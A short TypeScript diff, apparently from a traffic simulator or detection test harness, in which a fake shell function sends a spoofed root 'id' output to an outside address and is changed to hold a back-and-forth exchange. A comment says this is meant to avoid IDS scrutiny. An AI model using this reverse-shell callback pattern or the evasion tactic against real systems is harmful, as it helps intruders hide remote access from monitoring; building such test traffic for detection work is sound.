@@ -75,8 +75,10 @@ function runShell(command: string): string {
     const socket = connect({ host: ADDRESSES.outside.ip4, port: PORTS.shellSink, timeout: 3_000 });
     socket.on('error', () => undefined);
     socket.on('timeout', () => socket.destroy());
-    socket.end('uid=0(root) gid=0(root) groups=0(root)\n');
-    socket.resume();
+    // A conversation, as with a person at the other end: an IDS looks at what was acknowledged, and a connection that ends with
+    // its first and only data is looked at a minute later, when it is forgotten.
+    socket.write('uid=0(root) gid=0(root) groups=0(root)\n');
+    socket.on('data', () => socket.end('exit\n'));
     return '';
   }
   return 'sh: not found\n';
